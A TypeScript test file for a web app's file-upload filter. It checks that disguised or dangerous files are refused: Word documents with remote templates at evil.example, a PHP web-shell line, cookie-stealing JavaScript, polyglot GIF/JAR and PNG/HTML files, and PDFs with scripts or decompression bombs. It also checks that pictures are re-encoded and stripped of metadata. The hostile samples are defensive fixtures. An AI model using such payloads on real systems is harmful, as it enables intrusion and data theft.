import sharp from "sharp";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { createTestApp, type TestApp, type TestUser } from "../../../../test/create-test-app.ts";
import { deflateStream, document, writePackedPdf } from "./fixtures/pdf-writer.ts";
import { describeOutcome, pdf, picture, recording, type UploadRequest, upload } from "./fixtures/upload.ts";
import { WORD_PARTS, zip } from "./fixtures/zip.ts";

let server: TestApp;
let student: TestUser;
beforeAll(async () => {
  server = await createTestApp();
});
// An account may make 50 calls a second, and each file here takes less than a fiftieth of one.
beforeEach(async () => {
  student = await server.signUp();
});
afterAll(() => server.close());

const send = (sent: UploadRequest) => upload(server, { user: student, ...sent });
const REFUSED = "415 files.type_refused";
const SCRIPT = "<script>alert(1)</script>";
const text = (content: string) => Buffer.from(content);
const JAR = zip([{ name: "META-INF/MANIFEST.MF", bytes: text("Main-Class: Evil") }]);
const GIF = Buffer.from("R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=", "base64");

/** Encodes a text in UTF-16 with a byte order mark, as Notepad saves it. */
const utf16 = (letters: string) => Buffer.from(`\ufeff${letters}`, "utf16le");

const RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
/** A Word document whose settings relate to something. */
const makeRelatedDocument = (attributes: string, name = "word/_rels/settings.xml.rels") =>
  zip([
    ...WORD_PARTS,
    {
      name,
      bytes: text(
        `<?xml version="1.0"?><Relationships xmlns="x"><Relationship Id="r1" ${attributes}/></Relationships>`,
      ),
    },
  ]);
const ole = Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(600)]);

describe("a Word document", () => {
  it.each([
    [
      "a remote template",
      makeRelatedDocument(
        `Type="${RELATIONS}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"`,
      ),
    ],
    [
      "a remote template in other words",
      makeRelatedDocument(`Type="${RELATIONS}/attachedTemplate" Target="file:///x" TargetMode="&#69;xternal"`),
    ],
    [
      "a template of a share, without its mode",
      makeRelatedDocument(`Type="${RELATIONS}/attachedTemplate" Target="\\\\evil\\t.dotm"`),
    ],
    [
      "a remote picture",
      makeRelatedDocument(`Type="${RELATIONS}/image" Target="http://evil.example/a.png" TargetMode="External"`),
    ],
    [
      "a remote frame",
      makeRelatedDocument(`Type="${RELATIONS}/frame" Target="http://evil.example/" TargetMode="External"`),
    ],
    [
      "a linked object",
      makeRelatedDocument(`Type="${RELATIONS}/oleObject" Target="file:///c:/x" TargetMode="External"`),
    ],
    [
      "a link to a file",
      makeRelatedDocument(`Type="${RELATIONS}/hyperlink" Target="file:///c:/x" TargetMode="External"`),
    ],
    [
      "relations that are no XML",
      zip([...WORD_PARTS, { name: "word/_rels/a.rels", bytes: text("<Relationships><a></Relationships>") }]),
    ],
    [
      "relations with a document type",
      zip([
        ...WORD_PARTS,
        { name: "word/_rels/a.rels", bytes: text('<!DOCTYPE a [<!ENTITY e "x">]><Relationships/>') },
      ]),
    ],
    ["an object under another name", zip([...WORD_PARTS, { name: "word/embeddings/object.dat", bytes: ole }])],
    ["an object called a picture", zip([...WORD_PARTS, { name: "word/media/image1.png", bytes: ole }])],
  ])("with %s is refused", async (_what, bytes) => {
    expect(describeOutcome(await send({ bytes, name: "x.docx", purpose: "task" }))).toBe("415 files.unsafe");
  });

  it.each([
    [
      "links to the web",
      makeRelatedDocument(
        `Type="${RELATIONS}/hyperlink" Target="https://kalima.example/a?b=1&amp;c=2" TargetMode="External"`,
      ),
    ],
    [
      "a link to a mailbox",
      makeRelatedDocument(`Type="${RELATIONS}/hyperlink" Target="mailto:a@kalima.example" TargetMode="External"`),
    ],
    ["parts of its own", makeRelatedDocument(`Type="${RELATIONS}/styles" Target="styles.xml"`)],
    [
      "an absolute part",
      makeRelatedDocument(
        `Type="${RELATIONS}/officeDocument" Target="/word/document.xml"`,
        "word/_rels/document.xml.rels",
      ),
    ],
    [
      "no relations",
      zip([...WORD_PARTS, { name: "word/_rels/document.xml.rels", bytes: text('<Relationships xmlns="x"/>') }]),
    ],
  ])("with %s is taken", async (_what, bytes) => {
    expect((await send({ bytes, name: "x.docx", purpose: "task" })).statusCode).toBe(201);
  });
});

describe("what a file is by its content decides, not its name and not what its sender claims", () => {
  it.each<{ what: string; bytes: Buffer; name?: string; purpose: string; type?: string }>([
    { what: "SVG", bytes: text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`), purpose: "picture" },
    { what: "SVG behind an XML head", bytes: text(`<?xml version="1.0"?><svg>${SCRIPT}</svg>`), purpose: "picture" },
    { what: "HTML", bytes: text(`<!doctype html>${SCRIPT}`), purpose: "picture" },
    { what: "HTML that claims to be a PNG", bytes: text(`<html>${SCRIPT}`), purpose: "proof", type: "image/png" },
    { what: "PHP", bytes: text("<?php system($_GET['c']);"), purpose: "picture" },
    { what: "JavaScript", bytes: text("alert(document.cookie)"), purpose: "picture" },
    { what: "a GIF with a JAR behind it", bytes: Buffer.concat([GIF, JAR]), purpose: "picture" },
    { what: "a PDF as a picture", bytes: pdf(), purpose: "picture" },
    { what: "half a picture", bytes: Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"), purpose: "picture" },
    { what: "a program", bytes: Buffer.concat([text("MZ"), Buffer.alloc(200)]), purpose: "task", name: "x.docx" },
    { what: "HTML as text", bytes: text(`\ufeff \n<!-- x --><body>${SCRIPT}`), purpose: "task", name: "x.txt" },
    { what: "bytes as text", bytes: Buffer.from([0x41, 0x00, 0x42]), purpose: "task", name: "x.txt" },
    {
      what: "a plain zip as a document",
      bytes: zip([{ name: "a.txt", bytes: text("a") }]),
      purpose: "task",
      name: "x.docx",
    },
    { what: "a recording as a picture", bytes: recording(), purpose: "picture", name: "x.wav" },
  ])("refuses $what", async ({ name = "x.png", ...sent }) => {
    expect(describeOutcome(await send({ ...sent, name }))).toBe(REFUSED);
  });

  it.each([
    { what: "a script", bytes: document({ more: { 5: "<</S/JavaScript/JS(x)>>" } }) },
    { what: "a script in packed objects", bytes: writePackedPdf({ more: { 5: "<</S/JavaScript/JS(x)>>" } }) },
    { what: "a page that grows to 100 MB", bytes: document({ content: deflateStream("", Buffer.alloc(100_000_000)) }) },
    { what: "nothing that can be read", bytes: text("%PDF-1.7\n%%EOF MZ") },
  ])("refuses a PDF with $what", async ({ bytes }) => {
    expect(describeOutcome(await send({ bytes, name: "x.pdf", purpose: "proof" }))).toBe("415 files.unsafe");
  });

  it.each([
    { what: "a PDF", bytes: pdf(), purpose: "proof", type: "application/pdf" },
    { what: "a PDF with packed objects", bytes: writePackedPdf(), purpose: "proof", type: "application/pdf" },
    {
      what: "a Word document",
      bytes: zip(WORD_PARTS),
      purpose: "task",
      name: "x.docx",
      type: expect.stringContaining("wordprocessingml"),
    },
    { what: "a text", bytes: text("مرحبا، 3 < 4"), purpose: "task", type: "text/plain" },
    { what: "a text in UTF-16", bytes: utf16("مرحبا، 3 < 4"), purpose: "task", type: "text/plain" },
    { what: "a text in UTF-16, big end first", bytes: utf16("Hello").swap16(), purpose: "task", type: "text/plain" },
    { what: "a picture under a wrong type", purpose: "proof", type: "image/webp" },
  ])("takes $what", async ({ bytes, purpose, name = "x.txt", type }) => {
    const sent = await send({ bytes: bytes ?? (await picture()), name, purpose, type: "text/html" });
    expect(sent.json().data).toMatchObject({ type });
  });
});

it.each([
  { what: "nothing", bytes: Buffer.alloc(0), name: "x.txt", outcome: "422 files.empty" },
  {
    what: "Arabic in windows-1256",
    bytes: Buffer.from([0xe3, 0xd1, 0xcd, 0xc8, 0xc7]),
    name: "x.txt",
    outcome: "415 files.text_encoding",
  },
  {
    what: "the name of a program",
    bytes: text("Good"),
    name: "Review of booking.com.txt",
    outcome: "415 files.name_refused",
  },
  {
    what: "a script behind UTF-16",
    bytes: utf16("<script>x</script>"),
    name: "x.txt",
    outcome: "415 files.type_refused",
  },
])("$what is refused by its reason", async ({ bytes, name, outcome }) => {
  expect(describeOutcome(await send({ bytes, name, purpose: "task" }))).toBe(outcome);
});

describe("a picture", () => {
  it.each(["png", "jpeg", "webp"] as const)("that is %s is re-encoded, without the bytes behind it", async (format) => {
    const polyglot = Buffer.concat([await picture(format), text(`<html>${SCRIPT}</html>`), JAR]);
    const sent = await send({ bytes: polyglot, name: "x.html", purpose: "message", type: "text/html" });
    expect(sent.json().data).toMatchObject({ name: "x.webp", type: "image/webp" });
    const { rawPayload } = await server.as(student)("GET", sent.json().data.url);
    expect(rawPayload.includes("script")).toBe(false);
    expect(rawPayload.includes("PK")).toBe(false);
    expect(await sharp(rawPayload).metadata()).toMatchObject({ format: "webp", width: 40, height: 30 });
  });

  it("loses its location and all other metadata", async () => {
    const tagged = await sharp(await picture("jpeg"))
      .withExif({ IFD0: { Copyright: "Mona", Make: "Phone" }, IFD3: { GPSLatitude: "30/1 2/1 3/1" } })
      .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><place>Cairo</place></x:xmpmeta>')
      .toBuffer();
    expect((await sharp(tagged).metadata()).exif).toBeDefined();
    const { url } = (await send({ bytes: tagged, purpose: "picture" })).json().data;
    const { exif, xmp, iptc } = await sharp((await server.app.inject(url)).rawPayload).metadata();
    expect({ exif, xmp, iptc }).toEqual({ exif: undefined, xmp: undefined, iptc: undefined });
  });

  it("rotates a picture upright and removes its orientation tag", async () => {
    const half = (background: string) => ({ create: { width: 20, height: 20, channels: 3 as const, background } });
    const lying = await sharp({ create: { width: 40, height: 20, channels: 3, background: "#00f" } })
      .composite([{ input: await sharp(half("#f00")).png().toBuffer(), left: 0, top: 0 }])
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer();
    const { url } = (await send({ bytes: lying, purpose: "picture" })).json().data;
    const shown = sharp((await server.app.inject(url)).rawPayload);
    const { data, info } = await shown.raw().toBuffer({ resolveWithObject: true });
    expect(info).toMatchObject({ width: 20, height: 40 });
    const [redAbove, blueAbove] = [
      data[(5 * 20 + 10) * info.channels] ?? 0,
      data[(5 * 20 + 10) * info.channels + 2] ?? 0,
    ];
    expect(redAbove).toBeGreaterThan(200);
    expect(blueAbove).toBeLessThan(60);
  });

  it("scales a picture down to the largest size that pages show", async () => {
    const { url } = (await send({ bytes: await picture("png", 3_000, 1_500), purpose: "picture" })).json().data;
    const shown = await sharp((await server.app.inject(url)).rawPayload).metadata();
    expect(shown).toMatchObject({ width: 1_600, height: 800 });
  });
});
